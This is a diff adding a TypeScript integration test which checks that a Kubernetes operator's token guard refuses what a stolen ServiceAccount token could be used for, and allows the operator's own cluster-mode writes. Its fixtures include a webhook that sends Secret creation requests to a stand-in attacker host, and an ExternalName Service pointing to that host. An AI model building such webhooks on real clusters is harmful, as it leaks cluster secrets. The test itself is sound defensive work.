@@ -1,0 +1,132 @@
+/**
+ * deploy/'s token guard, proven with the operator's own ServiceAccount token (issued by the real
+ * API server's TokenRequest API, RBAC from deploy/): what a stolen token would be used for is
+ * refused, and what the operator itself writes in cluster mode is allowed.
+ */
+import { expect } from 'chai';
+import * as k8s from '@kubernetes/client-node';
+import fs from 'node:fs';
+import { cluster, kubectl, OPERATOR_NAMESPACE } from '../support/cluster.ts';
+import { errorStatus } from '../support/objects.ts';
+import { eventually } from '../support/wait.ts';
+import { connect, type Kube, type KubeObject } from '../../src/kube/client.ts';
+import { service, webhookConfigurations } from '../../src/controller/desired.ts';
+import { DEFAULTS, type OperatorConfig } from '../../src/config.ts';
+import type { AdmissionSuite } from '../../src/api/types.ts';
+import { OPERATOR_NAME } from '../../src/api/names.ts';
+
+const webhookConfiguration = (name: string, clientConfig: Record<string, unknown>, labels: Record<string, string> = {}): KubeObject => ({
+  apiVersion: 'admissionregistration.k8s.io/v1',
+  kind: 'ValidatingWebhookConfiguration',
+  metadata: { name, labels },
+  webhooks: [
+    {
+      name: 'steal.example.com',
+      clientConfig,
+      rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }],
+      failurePolicy: 'Ignore',
+      sideEffects: 'None',
+      admissionReviewVersions: ['v1'],
+    },
+  ],
+});
+const OURS = { 'app.kubernetes.io/managed-by': 'portcullis' };
+
+/** The write's refusal message, or 'allowed'. */
+async function attempt(call: () => Promise<unknown>): Promise<string> {
+  try {
+    await call();
+    return 'allowed';
+  } catch (err) {
+    return errorStatus(err).message ?? String(err);
+  }
+}
+
+describe("deploy/'s token guard: the operator's ServiceAccount token writes only Portcullis' own objects", function () {
+  let asOperator: Kube;
+  const admin = () => cluster().kube;
+
+  before(async function () {
+    for (const file of ['deploy/00-namespace.yaml', 'deploy/02-rbac.yaml', 'deploy/04-token-guard.yaml']) {
+      const result = await kubectl(['apply', '--server-side', '--force-conflicts', '-f', file]);
+      expect(result.code, result.stderr).to.equal(0);
+    }
+    const token = await kubectl(['create', 'token', OPERATOR_NAME, '-n', OPERATOR_NAMESPACE, '--duration=10m']);
+    expect(token.code, token.stderr).to.equal(0);
+    const { controlPlane } = cluster();
+    const config = new k8s.KubeConfig();
+    const ca = cluster().kubeConfig.getCurrentCluster()!;
+    config.loadFromOptions({
+      clusters: [{ name: 'test', server: controlPlane.server, caData: ca.caData, caFile: ca.caFile, skipTLSVerify: false }],
+      users: [{ name: 'operator', token: token.stdout.trim() }],
+      contexts: [{ name: 'operator', cluster: 'test', user: 'operator' }],
+      currentContext: 'operator',
+    });
+    asOperator = connect(config);
+    expect(fs.existsSync(controlPlane.kubeconfigPath)).to.equal(true);
+  });
+
+  after(async function () {
+    for (const name of ['vendor-webhook', 'portcullis-guard-check']) {
+      await admin().admissionregistration.deleteValidatingWebhookConfiguration({ name }).catch(() => undefined);
+    }
+  });
+
+  it("refuses to register a webhook that sends requests anywhere but the operator's Services", async function () {
+    // The policy takes a moment to load after it is created: wait for its first refusal.
+    const first = await eventually(
+      async () => {
+        const answer = await attempt(() => asOperator.objects.create(webhookConfiguration('steal-secrets', { url: 'https://attacker.example.invalid/' })));
+        if (answer === 'allowed') {
+          await admin().admissionregistration.deleteValidatingWebhookConfiguration({ name: 'steal-secrets' });
+          throw new Error('allowed: the guard is not loaded yet');
+        }
+        return answer;
+      },
+      { what: 'the token guard to refuse' },
+    );
+    expect(first).to.contain('may only write its own');
+    const named = await attempt(() => asOperator.objects.create(webhookConfiguration('portcullis-steal', { url: 'https://attacker.example.invalid/' }, OURS)));
+    expect(named).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
+    const elsewhere = await attempt(() =>
+      asOperator.objects.create(webhookConfiguration('portcullis-steal', { service: { namespace: 'default', name: 'portcullis-x', port: 443 } }, OURS)),
+    );
+    expect(elsewhere).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
+  });
+
+  it("refuses to edit or delete another party's configuration", async function () {
+    await admin().objects.create(webhookConfiguration('vendor-webhook', { url: 'https://vendor.example.invalid/' }));
+    const removed = await attempt(() => asOperator.admissionregistration.deleteValidatingWebhookConfiguration({ name: 'vendor-webhook' }));
+    expect(removed).to.contain('may only write its own');
+    const relabelled = await attempt(() =>
+      asOperator.objects.patch({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingWebhookConfiguration', metadata: { name: 'vendor-webhook', labels: OURS } }, undefined, undefined, 'thief', undefined, k8s.PatchStrategy.MergePatch),
+    );
+    expect(relabelled).to.contain('may only write its own');
+    expect((await admin().admissionregistration.readValidatingWebhookConfiguration({ name: 'vendor-webhook' })).metadata?.labels ?? {}).to.deep.equal({});
+  });
+
+  it("refuses a Service that would send the API server's calls elsewhere", async function () {
+    const external = await attempt(() =>
+      asOperator.objects.create({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'portcullis-steal', namespace: OPERATOR_NAMESPACE, labels: OURS }, spec: { type: 'ExternalName', externalName: 'attacker.example.invalid' } }),
+    );
+    expect(external).to.contain('may only make ClusterIP Services in front of the operator');
+  });
+
+  it('allows what the operator writes for a suite in cluster mode', async function () {
+    const config: OperatorConfig = { ...DEFAULTS, namespace: OPERATOR_NAMESPACE, mode: 'cluster' };
+    const suite: AdmissionSuite = {
+      apiVersion: 'admission.portcullis.dev/v1alpha1',
+      kind: 'AdmissionSuite',
+      metadata: { name: 'guard-check', uid: '00000000-0000-0000-0000-000000000001', generation: 1 },
+      spec: { webhooks: [{ name: 'w', type: 'Validating', rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['configmaps'] }], validations: [{ expression: 'true' }] }] },
+    };
+    // No owner references: the suite is not stored, so garbage collection would remove owned objects at once.
+    const strip = (object: KubeObject) => ({ ...object, metadata: { ...(object.metadata as object), ownerReferences: undefined } }) as KubeObject;
+    const svc = strip(service(suite, config)!);
+    const configuration = strip(webhookConfigurations(suite, config, 'unused-bundle').get('Validating')!);
+    expect(await attempt(() => asOperator.objects.create(svc))).to.equal('allowed');
+    expect(await attempt(() => asOperator.objects.create(configuration))).to.equal('allowed');
+    expect(await attempt(() => asOperator.objects.delete(configuration))).to.equal('allowed');
+    expect(await attempt(() => asOperator.objects.delete(svc))).to.equal('allowed');
+  });
+});
